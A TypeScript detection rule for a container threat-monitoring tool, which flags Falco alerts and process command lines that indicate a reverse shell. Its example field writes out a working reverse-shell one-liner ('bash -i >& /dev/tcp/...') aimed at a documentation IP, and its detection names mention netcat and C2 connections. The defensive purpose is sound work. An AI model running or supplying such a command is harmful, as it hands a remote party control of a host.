import { reverseShellIn } from '../reverse-shell.ts';
import type { ThreatRule } from '../rule.ts';
import { claimsOf, reported } from '../threat-claims.ts';

const { names, sightingOf } = claimsOf([
  {
    severity: 'high',
    confidence: 0.8,
    names: ['Netcat Remote Code Execution in Container', 'Reverse shell', 'Outbound Connection to C2 Servers'],
  },
  {
    severity: 'high',
    confidence: 0.7,
    names: ['Redirect STDOUT/STDIN to Network Connection in Container'],
  },
]);

/** Falco saw a shell that is tied to a connection. */
export const falcoReverseShell: ThreatRule = {
  id: 'falco-reverse-shell',
  reads: 'threat',
  feed: 'falco',
  names,
  title: 'Falco: reverse shell',
  sees: "An alert of Falco's rules about shells connected to a network connection, and any alert whose process, or its parent, has the command line of a reverse shell; such a command line is conclusive.",
  why: 'Somebody elsewhere types commands in the container.',
  technique: [
    { id: 'T1059.004', name: 'Command and Scripting Interpreter: Unix Shell' },
    { id: 'T1095', name: 'Non-Application Layer Protocol' },
  ],
  severity: 'high',
  confidence: 0.9,
  family: 'threat-feed',
  conclusive: true,
  falsePositives: ['Penetration tests', 'Programs that connect a socket to a child process by design'],
  example: 'Terminal shell in container, with the command line bash -i >& /dev/tcp/203.0.113.9/4444 0>&1',
  match: (signal) => {
    const seen = signal.commands.map(reverseShellIn).find((shell) => shell?.certain === true);
    if (seen === undefined) return sightingOf(signal);
    const because = [reported(signal), `by its command line ${seen.what}`];
    return { severity: 'high', confidence: 0.9, conclusive: true, because };
  },
};
